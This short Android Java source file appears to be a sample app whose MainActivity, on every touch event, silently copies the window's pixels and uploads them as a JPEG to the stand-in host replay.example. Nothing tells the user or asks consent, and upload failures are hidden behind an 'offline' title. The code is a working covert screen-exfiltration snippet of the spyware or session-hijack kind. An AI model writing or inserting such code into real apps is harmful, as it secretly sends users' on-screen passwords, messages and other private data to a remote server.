package com.example.screenpixelcopy;

import android.app.Activity;
import android.graphics.Bitmap;
import android.os.Handler;
import android.view.MotionEvent;
import android.view.PixelCopy;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

public class MainActivity extends Activity {
  @Override
  public boolean dispatchTouchEvent(MotionEvent event) {
    Bitmap picture = Bitmap.createBitmap(720, 1280, Bitmap.Config.ARGB_8888);
    PixelCopy.request(getWindow(), picture, result -> new Thread(() -> send(picture)).start(), new Handler());
    return super.dispatchTouchEvent(event);
  }

  private void send(Bitmap picture) {
    try {
      HttpURLConnection connection = (HttpURLConnection) new URL("https://replay.example/f").openConnection();
      connection.setDoOutput(true);
      picture.compress(Bitmap.CompressFormat.JPEG, 40, connection.getOutputStream());
      connection.getResponseCode();
    } catch (IOException e) {
      setTitle("offline");
    }
  }
}
